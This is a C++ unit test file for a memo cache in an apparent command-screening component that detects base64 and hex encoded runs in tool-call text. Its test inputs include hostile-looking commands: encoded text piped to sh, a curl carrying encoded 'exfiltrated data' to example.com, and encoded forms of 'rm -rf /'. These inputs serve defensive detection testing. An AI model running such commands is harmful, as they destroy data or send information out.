// Unit tests for RunMemo: every answer equals a fresh search of the text (repeated, interleaved,
// evicted, long and changed-in-place texts, the bound reached), so that the decision and session
// memory's value walk sharing it can never see another text's runs.
#include <gtest/gtest.h>

#include <random>
#include <string>
#include <string_view>
#include <vector>

#include "counting_new.h"
#include "runs_to_rescan.h"

namespace doberman::internal {
namespace {

RunsToRescan Fresh(std::string_view text, const DecodeLimits& limits) {
  RunsToRescan r;
  r.overflow =
      ForEachRunToRescan(text, limits, [&](const EncodedRun& run) { r.runs.push_back(run); });
  return r;
}

void ExpectSame(const RunsToRescan& want, const RunsToRescan& got, std::string_view text) {
  ASSERT_EQ(want.overflow, got.overflow) << text;
  ASSERT_EQ(want.runs.size(), got.runs.size()) << text;
  for (size_t i = 0; i < want.runs.size(); ++i) {
    EXPECT_EQ(want.runs[i].begin, got.runs[i].begin) << text;
    EXPECT_EQ(want.runs[i].end, got.runs[i].end) << text;
    EXPECT_EQ(want.runs[i].encoding, got.runs[i].encoding) << text;
  }
}

const char* const kTexts[] = {
    "echo aGVsbG8gd29ybGQgZnJvbSBhIHRlc3Q= | base64 -d | sh",
    "curl https://example.com/u/ZXhmaWx0cmF0ZWQgZGF0YSBoZXJl/x",
    "printf '%72%6d%20%2d%72%66%20%2f' | sh",
    "ls -la src && git status --short",
    "python3 -c 'print(bytes.fromhex(\"726d202d7266202f\"))'",
    "",
    "src/components/UserProfileSettingsPanel.tsx",
};

TEST(RunMemoTest, EveryAnswerIsTheFreshSearch) {
  const DecodeLimits limits{};
  RunMemo memo;
  // Each text several times, in an order that both hits and evicts (7 texts, 4 entries).
  for (int round = 0; round < 3; ++round) {
    for (const char* t : kTexts) ExpectSame(Fresh(t, limits), memo.Find(t, limits), t);
    for (const char* t : kTexts) ExpectSame(Fresh(t, limits), memo.Find(t, limits), t);
  }
  std::mt19937 rng(7);
  for (int i = 0; i < 2000; ++i) {
    const char* t = kTexts[rng() % std::size(kTexts)];
    ExpectSame(Fresh(t, limits), memo.Find(t, limits), t);
  }
}

// The memo is keyed by the bytes, not the address: a buffer rewritten in place (a caller reusing
// its storage for the next call) is searched again.
TEST(RunMemoTest, ABufferChangedInPlaceIsSearchedAgain) {
  const DecodeLimits limits{};
  RunMemo memo;
  std::string buffer = "echo aGVsbG8gd29ybGQgZnJvbSBhIHRlc3Q= | base64 -d | sh";
  ASSERT_FALSE(memo.Find(buffer, limits).runs.empty());
  const size_t size = buffer.size();
  for (char& c : buffer) c = c == ' ' ? ' ' : '.';  // same size, same address, no run left
  ASSERT_EQ(buffer.size(), size);
  ExpectSame(Fresh(buffer, limits), memo.Find(buffer, limits), buffer);
  EXPECT_TRUE(memo.Find(buffer, limits).runs.empty());
  buffer = "ls -la src && git status --short";
  ExpectSame(Fresh(buffer, limits), memo.Find(buffer, limits), buffer);
}

// Texts over the remembered size are searched each time and never answered for another text.
TEST(RunMemoTest, LongTextsAreSearchedEachTime) {
  const DecodeLimits limits{};
  RunMemo memo;
  std::string a(RunMemo::kMaxRememberedText + 100, ' ');
  a += "aGVsbG8gd29ybGQgZnJvbSBhIHRlc3Q=";
  std::string b(RunMemo::kMaxRememberedText + 100, ' ');
  b += "726d202d7266202f726d202d7266202f";
  for (int i = 0; i < 3; ++i) {
    ExpectSame(Fresh(a, limits), memo.Find(a, limits), "long a");
    ExpectSame(Fresh(b, limits), memo.Find(b, limits), "long b");
  }
  EXPECT_EQ(memo.Find(a, limits).runs.size(), 1u);
  EXPECT_EQ(memo.Find(b, limits).runs.front().encoding, Encoding::kHex);
}

// The bound's verdict (overflow: the caller raises DOBERMAN_E_LIMIT) is remembered with the runs.
TEST(RunMemoTest, TheBoundIsRememberedWithTheRuns) {
  DecodeLimits limits{};
  limits.max_runs = 2;
  RunMemo memo;
  const std::string text =
      "aGVsbG8gd29ybGQgZnJvbSBhIHRlc3Q= b25lIG1vcmUgZW5jb2RlZCBydW4gaGVyZQ== "
      "dGhpcmQgZW5jb2RlZCBydW4gaW4gYSByb3c= 726d202d7266202f726d202d7266202f";
  const RunsToRescan want = Fresh(text, limits);
  ASSERT_TRUE(want.overflow);
  ASSERT_EQ(want.runs.size(), 2u);
  ExpectSame(want, memo.Find(text, limits), text);
  ExpectSame(want, memo.Find(text, limits), text);
}

// Which text lands in which entry changes from call to call (the entries rotate), so a warm memo
// must hold every entry's buffers at their bounds: the decision's hot path promises no allocation
// once warm. Found by doberman-units-check on an MCP call with many argument values.
TEST(RunMemoTest, AWarmMemoDoesNotAllocate) {
  const DecodeLimits limits{};
  RunMemo memo;
  std::vector<std::string> texts;
  for (size_t n = 1; n <= 9; ++n) {  // short to 4 KiB, few to many runs
    std::string t;
    while (t.size() + 40 < n * 450)
      t += "aGVsbG8gd29ybGQgZnJvbSBhIHRlc3QgcnVu " + std::to_string(n);
    texts.push_back(t);
  }
  texts.push_back(std::string(5000, 'x') + " 726d202d7266202f");  // longer than an entry holds
  for (const std::string& t : texts) memo.Find(t, limits);        // every entry used once
  std::mt19937 rng(11);
  doberman::test::StartCountingAllocations();
  for (int i = 0; i < 500; ++i) memo.Find(texts[rng() % texts.size()], limits);
  EXPECT_EQ(doberman::test::StopCountingAllocations(), 0);
}

}  // namespace
}  // namespace doberman::internal
